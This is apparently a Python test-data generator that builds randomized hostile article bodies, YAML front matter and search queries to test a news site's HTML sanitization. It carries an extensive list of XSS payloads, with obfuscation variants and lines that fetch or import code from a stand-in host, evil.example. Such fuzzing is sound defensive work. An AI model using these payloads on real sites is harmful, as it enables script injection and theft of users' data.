"""Hostile bodies, front matter and questions, by rule: what calls a hook, in what carries it, in what stands around it.

Every script among them calls `hook` or `alert`, or asks the host `evil.example` for something.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator

from builder.articles.columns import ARTICLE_COLUMNS, ValueKind

HOST = "evil.example"
CALLS = (
    "hook(1)",
    "alert(1)",
    "top.hook(1)",
    "hook`1`",
    "self['hook'](1)",
    f"import('//{HOST}/m.js')",
    f"fetch('https://{HOST}/f')",
)
ELEMENTS = (
    "<script>JS</script>", "<script src=//HOST/s.js></script>", "<script type=module>JS</script>", "<script/x>JS</script>",
    "<scr<script>ipt>JS</scr</script>ipt>", "<script>JS", "</script><script>JS</script>", "<svg><script>JS</script></svg>",
    '<svg><script href="data:,JS"/></svg>', "<math><mtext><script>JS</script></mtext></math>", "<svg onload=JS>", "<svg/onload=JS//",
    "<svg><animate onbegin=JS attributeName=x dur=1s>", '<svg><a xlink:href="javascript:JS"><text>t</text></a></svg>',
    '<svg><set attributeName=href to="javascript:JS">', "<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>",
    '<svg><style><img src="</style><img src=x onerror=JS>"></style></svg>', '<math href="javascript:JS">m</math>',
    "<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=JS&gt;'>", "<img src=x onerror=JS>", "<img/src=x/onerror=JS>",
    "<img src=x:x onerror='JS'>", '<img src="javascript:JS">', '<img srcset="x 1x" onerror=JS>', "<image src=x onerror=JS>", "<input onfocus=JS autofocus>",
    "<picture><source srcset=//HOST/p.png><img onerror=JS></picture>", "<video src=x onerror=JS></video>", "<video><source onerror=JS></video>",
    "<video poster=//HOST/v.png></video>", "<audio src=x onerror=JS autoplay></audio>", "<audio src=//HOST/a.mp3 autoplay></audio>",
    "<body onload=JS>", "<body background=//HOST/b.png>", "<details open ontoggle=JS>d</details>", "<marquee onstart=JS>m</marquee>",
    "<select onfocus=JS autofocus></select>", "<textarea onfocus=JS autofocus></textarea>", "<p onmouseover=JS tabindex=1>p</p>",
    '<p style="animation:x 1s" onanimationstart=JS>p</p>', '<p style="background:url(//HOST/c.png)">p</p>', "<style>@import '//HOST/s.css';</style>",
    "<style>*{background:url(//HOST/u.png)}</style>", '<style></style><img src="</style><img src=x onerror=JS>">', "<link rel=stylesheet href=//HOST/l.css>",
    "<link rel=prefetch href=//HOST/l>", "<base href=//HOST/>", '<meta http-equiv=refresh content="0;url=//HOST/">',
    '<meta http-equiv=refresh content="0;javascript:JS">', '<iframe src="javascript:JS"></iframe>', '<iframe srcdoc="<script>JS</script>"></iframe>',
    "<iframe src=//HOST/i></iframe>", '<object data="javascript:JS"></object>', "<object data=//HOST/o></object>", "<embed src=//HOST/e>",
    '<embed src="data:text/html,<script>JS</script>">', "<frameset onload=JS><frame src=//HOST/fr></frameset>", "<applet code=x archive=//HOST/a.jar>",
    '<form action="javascript:JS"><button>b</button></form>', '<form><button formaction="javascript:JS" autofocus>b</button></form>',
    '<a href="javascript:JS">a</a>', '<a href=" javascript:JS">a</a>', '<a href="java\tscript:JS">a</a>', '<a href="&#106;avascript&colon;JS">a</a>',
    '<a href="\x01javascript:JS">a</a>', '<a href="JaVaScRiPt:JS">a</a>', '<a href="data:text/html,<script>JS</script>">a</a>',
    '<a href="vbscript:JS">a</a>', '<a href=# ping=//HOST/ping onclick=JS>a</a>', '<a href="http://a.example/" target=JS onclick=JS>a</a>',
    '<area href="javascript:JS">', '<q cite="javascript:JS">q</q>', "<x onclick=JS tabindex=1 onfocus=JS id=x>x</x>", "<dialog open onclose=JS>d</dialog>",
    "<template><script>JS</script></template>", '<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>', "<title><img src=x onerror=JS></title>",
    "<textarea><img src=x onerror=JS></textarea>", "<xmp><p title='</xmp><img src=x onerror=JS>'></xmp>", "<noembed><img src=x onerror=JS></noembed>",
    "<plaintext><img src=x onerror=JS>", "<!--><img src=x onerror=JS>-->", "<!--!><img src=x onerror=JS>--!>", "<![CDATA[<img src=x onerror=JS>]]>",
    "<?xml <img src=x onerror=JS>?>", "<!DOCTYPE x [<!ENTITY y '<script>JS</script>'>]>&y;", "</div></article></main></body><script>JS</script>",
    '"><img src=x onerror=JS>', "'><img src=x onerror=JS>", "--><img src=x onerror=JS>", "]]><img src=x onerror=JS>", "</style><img src=x onerror=JS>",
    "</title><img src=x onerror=JS>", "</textarea><img src=x onerror=JS>", "</code></pre><img src=x onerror=JS>", '" onfocus="JS" autofocus="', "' onfocus='JS' autofocus='",
    "` onfocus=JS autofocus `", "&lt;img src=x onerror=JS&gt;", "&amp;lt;img src=x onerror=JS&amp;gt;", "\uff1cimg src=x onerror=JS\uff1e",
    "\\u003cimg src=x onerror=JS\\u003e", "%3Cimg src=x onerror=JS%3E", "<a id=morgue name=search href=#>clobber</a>", "<form id=morgue><input name=search>",
    "<img name=getElementById>", "<a id=hook>h</a><a id=hook name=call>", "{{ self.__init__.__globals__ }}", "{{ 190003 * 170021 }}", "{% for x in [1] %}JS{% endfor %}",
    "${JS}", "<%= JS %>", "javascript:JS", "//HOST/x", "data:text/html,<script>JS</script>", "<table background=//HOST/t.png><tr><td onclick=JS>t",
)  # fmt: skip
MARKDOWN = (
    "[l](javascript:JS)", "[l](<javascript:JS>)", "![i](javascript:JS)", '![" onerror="JS](x.png)', "![i](x.png\"onerror=\"JS)",
    '[l](http://a.example "t\\" onfocus=\\"JS\\" autofocus=\\"")', "<javascript:JS>", "[l][r]\n\n[r]: javascript:JS", '[l][r]\n\n[r]: http://a.example "\\"><img src=x onerror=JS>"',
    "text[^1]\n\n[^1]: <img src=x onerror=JS>", 'text[^"><img src=x onerror=JS>]\n\n[^"><img src=x onerror=JS>]: n', "# <img src=x onerror=JS>", '# h {: onclick="JS" }', "*e*{: onmouseover=JS }",
    'p\n{: style="background:url(//HOST/k.png)" #morgue }', "~~~ {.x onclick=JS}\n<img src=x onerror=JS>\n~~~", "`<img src=x onerror=JS>`", "``` <img src=x onerror=JS>\nx\n```",
    "| <img src=x onerror=JS> |\n|---|\n| <script>JS</script> |", "<img src=x onerror=JS>\n: <script>JS</script>", '<div markdown="1" onclick=JS>*m* <script>JS</script></div>',
    '<p markdown="span" onclick=JS>*m*</p>', "[l](x&#x22; onfocus=JS autofocus=&#x22;)", "![i](http://pictures.example/x.png?\"onerror=JS)", "[l](vbscript:JS)", "\\<img src=x onerror=JS\\>",
    "<http://a.example/\"onclick=\"JS>", "[TOC]\n\n# <img src=x onerror=JS>", "- [x] <img src=x onerror=JS>", "[l](data:text/html;base64,PHNjcmlwdD5ob29rKDEpPC9zY3JpcHQ+)",
    "[<img src=x onerror=JS>](http://a.example)", "![<img src=x onerror=JS>](x.png)", "<a href='x'>[l](javascript:JS)</a>", "*[HTML]: \"><img src=x onerror=JS>\n\nHTML",
)  # fmt: skip
AROUND = (
    "{}", "words {} words", "> {}", "- {}", "1. {}", "# {}", "*{}*", "[{}](http://a.example)", "| a |\n|---|\n| {} |", "    {}", "```\n{}\n```", "`{}`", "<div>{}</div>",
    "<p>{}", "<table><tr><td>{}", '<a title="{}">a</a>', "<img alt='{}' src=x.png>", "![{}](x.png)", "<pre>{}</pre>", "<b>{}", "text[^n]\n\n[^n]: {}", "Term\n: {}",
    "<!-- {} -->", "<svg>{}</svg>", "<math>{}</math>", "<style>{}</style>", "<noscript>{}</noscript>", "<iframe>{}</iframe>", "<select>{}</select>", "<title>{}</title>",
)  # fmt: skip
SCRAMBLED = (
    lambda text: text, str.upper, lambda text: text.replace("<", "<\0"), lambda text: text.replace(" ", "\n"), lambda text: text.replace(" ", "/"),
    lambda text: text.replace("=", " =\t"), lambda text: text.rstrip(">"), lambda text: text.replace("<", "<<"), lambda text: text.replace("on", "\u017fon"),
    lambda text: text.replace("script", "scr\u00adipt"), lambda text: text.replace("<", "&#60;"), lambda text: text.replace('"', ""), lambda text: text + "-->",
    lambda text: text.replace("i", "\u0131"), lambda text: "مرحبا " + text + " שלום", lambda text: text.replace("s", "\uff53"), lambda text: "\u202e" + text,
)  # fmt: skip
FIELDS = (
    *(column.name for column in ARTICLE_COLUMNS if column.kind in {ValueKind.TEXT, ValueKind.NAMES} and column.name not in {"language", "slug", "aliases"}),
    "images", "corrections", "places", "unheard_of",
)  # fmt: skip
"""Whatever an article may say in words of its own: not its language or its addresses, which are no free words."""
PARAMETERS = ("agency", "source", "section", "type", "tag", "byline", "language", "since", "until", "sort", "page")


def fragments(seed: int) -> Iterator[str]:
    """Yield without end what carries a script, each element in turn, however scrambled."""
    chance = random.Random(seed)
    while True:
        for element in chance.sample(ELEMENTS, len(ELEMENTS)):
            call = chance.choice(CALLS)
            yield chance.choice(SCRAMBLED)(element.replace("JS", call).replace("HOST", HOST))


def bodies(count: int, seed: int = 1) -> list[str]:
    """Return so many different hostile bodies."""
    chance, parts = random.Random(seed), fragments(seed)
    found: dict[str, None] = {}
    while len(found) < count:
        if chance.random() < 0.25:
            inner = chance.choice(MARKDOWN).replace("JS", chance.choice(CALLS)).replace("HOST", HOST)
        else:
            inner = next(parts)
        body = chance.choice(AROUND).replace("{}", inner)
        found[body if chance.random() < 0.7 else f"{body}\n\n{chance.choice(AROUND).replace('{}', next(parts))}"] = None
    return list(found)


def front_matters(count: int, seed: int = 2) -> list[str]:
    """Return so many different hostile sets of front matter, without a date, as lines of YAML."""
    chance, parts = random.Random(seed), fragments(seed)
    found: dict[str, None] = {}
    while len(found) < count:
        values: dict[str, object] = {"title": f"Plain {len(found)}"}
        for name in chance.sample(FIELDS, chance.randint(1, 4)):
            text = next(parts)
            if name in {"original_url", "archived_url"}:
                text = (
                    f"https://a.example/?{text.replace(' ', '+')}"
                    if chance.random() < 0.7
                    else f"javascript:{chance.choice(CALLS)}"
                )
            values[name] = {
                "tags": [text, next(parts)],
                "images": [{"src": f"https://pictures.example/{text}", "alt": text, "caption": next(parts), "credit": next(parts)}],
                "corrections": [{"date": "2025-03-01", "text": text}],
                "agency": [text, next(parts)],
                "type": f"kind {text}",
                "id": f"urn:x:{len(found)}:{text}",
            }.get(name, text)
        found["\n".join(f"{name}: {json.dumps(value)}" for name, value in values.items())] = None
    return list(found)


def questions(count: int, seed: int = 3) -> list[dict[str, str]]:
    """Return the parameters of so many hostile searches; many of them find hostile stories."""
    chance, parts = random.Random(seed), fragments(seed)
    words = (
        "onerror",
        "script",
        "hook",
        "alert",
        "img",
        "evil",
        '"src x"',
        "-nothing",
        "plain*",
        "kind",
        "javascript OR svg",
        "title:plain",
    )
    found = []
    for number in range(count):
        question = {"q": next(parts) if number % 2 else f"{chance.choice(words)} {next(parts) if number % 4 else ''}"}
        for name in chance.sample(PARAMETERS, chance.randint(0, 2) if number % 3 else 0):
            question[name] = next(parts)
        found.append(question)
    return found
